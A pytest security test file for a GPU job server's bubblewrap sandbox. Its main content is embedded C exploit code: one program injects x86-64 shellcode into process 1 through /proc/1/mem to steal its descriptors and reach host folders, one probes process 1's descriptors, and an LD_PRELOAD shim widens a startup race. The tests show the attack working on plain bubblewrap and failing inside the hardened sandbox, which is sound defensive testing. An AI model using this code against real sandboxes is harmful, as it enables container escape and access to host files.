"""Process 1 of a sandbox is bubblewrap's and has the job's uid: what a job that takes it over would have, and whether it can."""

import asyncio
import hashlib
import os
import platform
import shutil
import socket
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from gpu_mcp_server.backends.bundle import HOSTD
from gpu_mcp_server.backends.hostd_client import HostdClient
from gpu_mcp_server.backends.local import LocalBackend
from gpu_mcp_server.hostd.gpus.gpu_locks import PROCESSOR, GpuLocks
from gpu_mcp_server.hostd.jobs import launch
from gpu_mcp_server.hostd.jobs.host_resources import LOCKS
from gpu_mcp_server.hostd.protocol import FileRef, GpuRequest, ProcessSpec, to_json
from gpu_mcp_server.hostd.sandbox import descriptors, processes, sandbox_stub
from gpu_mcp_server.hostd.sandbox.confinement import Sandbox, SandboxSpec, environment
from gpu_mcp_server.hostd.sandbox.mounts import can_access
from tests.hostd.conftest import skip_unless
from tests.hostd.laboratory import Done, Laboratory, wrapped
from tests.hostd.test_ordinary_user import AS_USER, PYTHON, UID

COLD = {"tmp_bytes": (64 << 20) - 4096}
"""Another size of /tmp than that of the sandboxes that wait."""

# Takes process 1 over: writes code where it waits, which receives what is on its way in each socket that it holds, and
# has an orphan of ours wake it. Then looks for folders among its descriptors and walks up from them.
TAKE_OVER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
__asm__(".globl code, code_end\n"
        "code: and $-16, %rsp\n sub $512, %rsp\n mov $0x41424344, %r12d\n mov $8, %ebx\n"
        "1: lea 400(%rsp), %rax\n mov %rax, (%rsp)\n movq $16, 8(%rsp)\n"
        "movq $0, 16(%rsp)\n movq $0, 24(%rsp)\n mov %rsp, 32(%rsp)\n movq $1, 40(%rsp)\n"
        "lea 80(%rsp), %rax\n mov %rax, 48(%rsp)\n movq $256, 56(%rsp)\n movq $0, 64(%rsp)\n"
        "mov $47, %eax\n mov %r12d, %edi\n lea 16(%rsp), %rsi\n mov $0x40, %edx\n syscall\n"
        "test %rax, %rax\n jle 2f\n dec %ebx\n jnz 1b\n"
        "2: mov $61, %eax\n mov $-1, %rdi\n xor %esi, %esi\n xor %edx, %edx\n xor %r10d, %r10d\n syscall\n"
        "cmp $-10, %rax\n jne 2b\n mov $231, %eax\n xor %edi, %edi\n syscall\n code_end:\n");
extern char code[], code_end[];
static int sockets(int *last) {
    char path[300], at[300]; int found = 0; struct dirent *entry; DIR *all = opendir("/proc/1/fd");
    while (all && (entry = readdir(all))) {
        snprintf(path, 300, "/proc/1/fd/%s", entry->d_name);
        int n = readlink(path, at, 299);
        if (n > 6 && !strncmp(at, "socket", 6)) { found++; *last = atoi(entry->d_name); }
    }
    return found;
}
static int folders(void) {
    char path[300], up[340]; int found = 0; struct dirent *entry; struct stat info; DIR *all = opendir("/proc/1/fd");
    while (all && (entry = readdir(all))) {
        snprintf(path, 300, "/proc/1/fd/%s", entry->d_name);
        if (entry->d_name[0] == '.' || stat(path, &info) || !S_ISDIR(info.st_mode)) continue;
        found++;
        snprintf(up, 340, "%s/canary", path);
        int file = open(up, O_RDONLY);
        printf("folder canary %s\n", file < 0 ? strerror(errno) : "read");
    }
    return found;
}
int main(void) {
    int held = -1, count = sockets(&held);
    printf("sockets %d\n", count);
    unsigned long at = 0;
    for (int i = 0; i < 100 && !at; i++) {
        FILE *where = fopen("/proc/1/syscall", "r"); char line[400] = "";
        if (where && fgets(line, 400, where) && atoi(line) == 61) at = strtoul(strrchr(line, ' ') + 1, 0, 16);
        if (where) fclose(where);
        if (!at) usleep(1000);
    }
    int memory = open("/proc/1/mem", O_RDWR);
    printf("memory %s\n", memory < 0 ? strerrorname_np(errno) : "opens");
    if (memory >= 0 && at) {
        size_t size = code_end - code; char *copy = malloc(size);
        memcpy(copy, code, size);
        for (size_t i = 0; i + 4 <= size; i++) if (!memcmp(copy + i, "\x44\x43\x42\x41", 4)) memcpy(copy + i, &held, 4);
        printf("written %d\n", pwrite(memory, copy, size, at) == (ssize_t)size);
        pid_t child = fork();
        if (!child) { if (!fork()) _exit(0); _exit(0); }
        waitpid(child, 0, 0);
    }
    for (int i = 0; i < (memory < 0 ? 1 : 100) && !folders(); i++) usleep(10000);
    puts("tried");
    return 0;
}
"""

# One of the first things of a job.
GLANCE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
int main(void) {
    char path[60], text[4096] = ""; struct stat info;
    int memory = open("/proc/1/mem", O_RDWR), failed = errno, status = open("/proc/1/status", O_RDONLY);
    for (int round = 0; round < 100; round++) for (int fd = 3; fd < 40; fd++) {
        snprintf(path, 60, "/proc/1/fd/%d", fd);
        if (!stat(path, &info) && S_ISDIR(info.st_mode)) { printf("folder %d\n", fd); return 1; }
    }
    read(status, text, 4095);
    printf("%s %.10s\n", memory < 0 ? strerrorname_np(failed) : "opens", strstr(text, "Seccomp:"));
    return 0;
}
"""

# Loaded into bubblewrap: its process 1 is late between two steps. It lists its descriptors before it closes them.
LATE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdarg.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>
static int listing;
static void sleep_ms(long ms) { struct timespec t = {ms / 1000, ms % 1000 * 1000000}; nanosleep(&t, 0); }
static int opened(const char *name, int folder, const char *path, int flags, int mode) {
    int (*real)(int, const char *, int, ...) = dlsym(RTLD_NEXT, name);
    if (strcmp(path, "self/fd") || getpid() != 1) return real(folder, path, flags, mode);
    sleep_ms(20);
    listing = 1;
    return real(folder, path, flags, mode);
}
int openat(int d, const char *p, int f, ...) { va_list a; va_start(a, f); return opened("openat", d, p, f, va_arg(a, int)); }
int openat64(int d, const char *p, int f, ...) { va_list a; va_start(a, f); return opened("openat64", d, p, f, va_arg(a, int)); }
int __openat_2(int d, const char *p, int f) { return opened("openat", d, p, f, 0); }
int __openat64_2(int d, const char *p, int f) { return opened("openat64", d, p, f, 0); }
#ifdef late_closedir
int closedir(DIR *all) {
    int (*real)(DIR *) = dlsym(RTLD_NEXT, "closedir");
    if (listing && getpid() == 1) sleep_ms(200);
    return real(all);
}
#else
int prctl(int option, ...) {
    int (*real)(int, ...) = dlsym(RTLD_NEXT, "prctl");
    unsigned long more[4]; va_list all; va_start(all, option);
    for (int i = 0; i < 4; i++) more[i] = va_arg(all, unsigned long);
    if (option == PR_SET_PDEATHSIG && getpid() == 1) sleep_ms(150);
    return real(option, more[0], more[1], more[2], more[3]);
}
#endif
"""

pytestmark = pytest.mark.skipif(
    not shutil.which("gcc") or platform.machine() != "x86_64",
    reason="needs gcc and x86_64, whose code the attack writes",
)


def compiled(source: str, folder: Path) -> bytes:
    (folder / "a.c").write_text(source)
    subprocess.run(["gcc", "-O1", "-w", "-static", "-o", folder / "a", folder / "a.c"], check=True)
    return (folder / "a").read_bytes()


@pytest.fixture(params=["full", "namespaces", "namespaces-user"])
async def lab(request, state: Path) -> AsyncIterator[Laboratory]:
    """Return a hostd of this user, or of an ordinary one."""
    level, _, user = request.param.partition("-")
    if not user:
        opened = await Laboratory.open(state, level)
    else:
        if os.geteuid() != 0 or not Path(PYTHON).exists() or not can_access(str(HOSTD), UID, 0o5):
            pytest.skip("cannot become an ordinary user")
        python = wrapped(state, {"GPU_MCP_HOSTD_LEVEL": level, "HOME": "/nonexistent"}, AS_USER, PYTHON)
        state.mkdir(mode=0o700)
        os.chown(state, UID, UID)
        opened = Laboratory(await HostdClient.open(LocalBackend(python=str(python), state_dir=str(state))), state)
    skip_unless(opened, level)
    yield opened
    await opened.close()


async def ran(lab: Laboratory, program: bytes, kind: str) -> Done:
    """Run a program as the very first thing of a job."""
    if kind == "prewarmed":
        await lab.warm_up()
    sha = hashlib.sha256(program).hexdigest()
    spec = lab.spec(
        processes=(ProcessSpec(argv=("./a",), env={}, profiled=kind == "profiled"),),
        files={"main": (FileRef("a", sha, len(program), 0o755),)},
        limits={} if kind == "prewarmed" else COLD,
    )
    await lab.link.call("submit", program, spec=to_json(spec), blobs=[[sha, len(program)]])
    return await lab.wait(spec.id)


def test_the_attack_takes_over_a_process_one_whose_memory_can_be_written(tmp_path):
    """Without that the others would prove nothing."""
    compiled(TAKE_OVER, tmp_path)
    (tmp_path / "canary").write_text("x")
    ours, theirs = socket.socketpair()
    folder = os.open(tmp_path, os.O_RDONLY)
    descriptors.send_with(ours, b"x", [folder])
    os.close(folder)
    inside = ["--unshare-user", "--unshare-pid", "--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev"]
    with ours, theirs:
        done = subprocess.run(
            ["bwrap", *inside, "--sync-fd", str(theirs.fileno()), "--", str(tmp_path / "a")],
            capture_output=True, text=True, pass_fds=[theirs.fileno()], timeout=60,
        )  # fmt: skip
    assert done.stdout.splitlines() == ["sockets 1", "memory opens", "written 1", "folder canary read", "tried"], done


@pytest.mark.parametrize(
    ("kind", "refusals"), [("cold", {"EROFS"}), ("prewarmed", {"EROFS", "EACCES"}), ("profiled", {"EACCES"})]
)
async def test_taking_process_one_over_gives_a_job_nothing(lab, tmp_path, kind, refusals):
    done = await ran(lab, compiled(TAKE_OVER, tmp_path), kind)
    sockets, memory, last = done.text.splitlines()
    assert (sockets, last) == ("sockets 0", "tried")
    assert memory.split()[0] == "memory"
    assert memory.split()[1] in refusals


@pytest.mark.parametrize("program", [TAKE_OVER, "int main(void) { return 0; }"], ids=["attack", "honest"])
async def test_a_job_cannot_let_its_lock_go(open_lab, state, tmp_path, program):
    """The lock of the processor was free 0.7 s after such a job had begun, which ran for 20 s."""
    locks = GpuLocks(str(state.parent / "locks"))
    lab = await open_lab("full", **{LOCKS: locks.folder})
    await lab.warm_up()
    content = compiled(program, tmp_path)
    sha = hashlib.sha256(content).hexdigest()
    spec = lab.spec(
        "/bin/sh", "-c", "./a >/dev/null; echo tried; sleep 1000", gpus=GpuRequest(mode="exclusive", wait_s=15),
        files={"main": (FileRef("a", sha, len(content), 0o755),)},
    )  # fmt: skip
    await lab.link.call("submit", content, spec=to_json(spec), blobs=[[sha, len(content)]])
    while b"tried" not in (await lab.wait(spec.id, timeout_s=0.05)).stdout:
        pass
    assert locks.is_taken(PROCESSOR)
    assert locks.try_one(PROCESSOR, "shared", {"job": "other"}) is None
    await lab.link.call("cancel", job=spec.id)
    await lab.wait(spec.id)
    assert not locks.is_taken(PROCESSOR)


async def test_a_job_begins_when_process_one_has_closed_the_host_s_folders(lab, tmp_path):
    """bubblewrap starts both at once: on a busy machine the job was earlier, and took the host's root from process 1."""
    program = compiled(GLANCE, tmp_path)
    for _ in range(4):
        done = await asyncio.gather(*(ran(lab, program, "cold") for _ in range(8)))
        assert {d.text.partition(" ")[0] for d in done} == {"EROFS"}


@pytest.mark.parametrize(("late", "writes_proc"), [("closedir", False), ("prctl", True)])
def test_a_job_waits_for_a_process_one_that_takes_its_time(state, late, writes_proc):
    """Without two looks in a row every other job found the host's /proc; with one that may write there, no filter."""
    state.mkdir(mode=0o755)
    (state / "late.c").write_text(LATE)
    make = ["gcc", "-w", "-shared", "-fPIC", f"-Dlate_{late}", "-o", state / "late.so", state / "late.c"]
    subprocess.run(make, check=True)
    work = state / "work"
    work.mkdir()
    (work / "a").write_bytes(compiled(GLANCE, state))
    (work / "a").chmod(0o755)
    argv = (
        [*launch.interpreter("", cast("Any", SimpleNamespace(python=PYTHON))), "-c", sandbox_stub.WALLED]
        if writes_proc
        else []
    )
    box = SandboxSpec(str(work), profiler=writes_proc)
    said: set[str] = set()
    for _ in range(12):
        command, made = Sandbox("namespaces")._bwrap_command([*argv, "./a"], environment({}), box)
        done = subprocess.run(
            command, pass_fds=made, env={"LD_PRELOAD": str(state / "late.so")}, capture_output=True, text=True,
            **({"user": UID, "group": UID, "extra_groups": []} if os.geteuid() == 0 else {}),
        )  # fmt: skip
        for fd in made:
            os.close(fd)
        said.add(done.stdout or done.stderr)
    assert {text.split(maxsplit=1)[1 if writes_proc else 0] for text in said} == {
        "Seccomp:\t2\n" if writes_proc else "EROFS"
    }, said


@pytest.mark.parametrize("kind", ["cold", "prewarmed", "profiled"])
async def test_nothing_inside_holds_anything_of_the_host(lab, kind):
    if kind == "prewarmed":
        await lab.warm_up()
    processes_ = (
        ProcessSpec(argv=("/bin/sh", "-c", "echo ready; kill -STOP $$"), env={}, profiled=kind == "profiled"),
    )
    job = await lab.start(processes=processes_, until=b"ready", limits={} if kind == "prewarmed" else COLD)
    inside = [pid for pid in processes.descendants_of(lab.supervisor(job)) if is_inside(pid)]
    assert len(inside) >= 2
    # a program that begins just now would hold its own libraries and locale: the shell stops, and starts none
    held = {str(fd.readlink()) for pid in inside for fd in Path(f"/proc/{pid}/fd").iterdir()}
    plain = ("pipe:[", "/memfd:stdin", "/dev/null", "anon_inode:[eventfd]")
    assert [what for what in held if not what.startswith(plain)] == []
    await lab.link.call("cancel", job=job)


def is_inside(pid: int) -> bool:
    return Path(f"/proc/{pid}/ns/pid").stat().st_ino != processes.namespace()
